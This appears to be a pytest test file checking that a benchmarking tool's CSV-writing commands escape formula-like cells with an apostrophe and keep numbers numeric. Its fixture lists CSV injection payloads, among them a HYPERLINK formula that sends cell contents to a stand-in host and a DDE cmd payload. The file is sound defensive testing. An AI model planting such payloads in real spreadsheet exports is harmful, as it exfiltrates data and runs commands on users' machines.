"""Issue 34, item 12: one CSV writer for every command; no text cell runs as a formula.

A store whose run tags and models are formulas (`=HYPERLINK(...)`, `+cmd|...`, `@SUM`, a
tab) is written as CSV by every command that writes CSV: each such cell starts with `'`,
numbers written as text (`-1.5`) stay numbers, and machine values are exact.
"""

from __future__ import annotations

import csv
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "results"))

from helpers_results import nightly_attempt  # noqa: E402

from dlbs.results.store import open_store  # noqa: E402

FORMULAS = ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1",
            "-2+3", "\r=2"]
MODEL = "=1+1"


@pytest.fixture
def formula_store(tmp_path: Path) -> Path:
    database = tmp_path / "results.db"
    with open_store(database) as store:
        store.record_attempts([nightly_attempt(MODEL, day, 10.0 + day / 10, tag=tag)
                               for day, tag in enumerate(FORMULAS, start=1)])
    return database


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (cell, row)
            if cell.startswith("-"):
                float(cell)   # a negative number written as text; nothing else


def _read(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as stream:   # a cell may hold a \r
        return list(csv.reader(stream))


def test_history_csv_keeps_formulas_text(formula_store: Path, dlbs_cli, tmp_path: Path) -> None:
    out = tmp_path / "history.csv"
    result = dlbs_cli("history", str(formula_store), "--format", "csv", "--by", "exp.model",
                      "-o", str(out))
    assert result.returncode == 0, result.stderr
    rows = _read(out)
    assert rows[0] == ["exp.model", "exp.id", "runtime.run_tag", "env.host", "ended_at",
                       "results.time_median"]
    assert [row[2] for row in rows[1:]] == ["'" + tag for tag in FORMULAS]
    assert {row[0] for row in rows[1:]} == {"'" + MODEL}
    # The values stay exact numbers.
    assert [float(row[5]) for row in rows[1:]] == [10.0 + day / 10 for day in range(1, 7)]
    _assert_no_formula(rows)


@pytest.mark.parametrize("argv", [
    ["report", "{db}", "--format", "csv", "--by", "exp.model,runtime.run_tag", "--runs", "each",
     "-o", "{out}"],
    ["parse", "{db}", "-o", "{out}"],
    ["compare", "{db}", "{db}", "--format", "csv", "-o", "{out}"],
])
def test_every_command_writes_csv_the_same_way(formula_store: Path, dlbs_cli, tmp_path: Path,
                                               argv: list[str]) -> None:
    out = tmp_path / "out.csv"
    result = dlbs_cli(*(item.replace("{db}", str(formula_store)).replace("{out}", str(out))
                        for item in argv))
    assert result.returncode == 0, result.stderr
    rows = _read(out)
    cells = {cell for row in rows for cell in row}
    assert "'" + MODEL in cells, rows[:3]
    _assert_no_formula(rows)
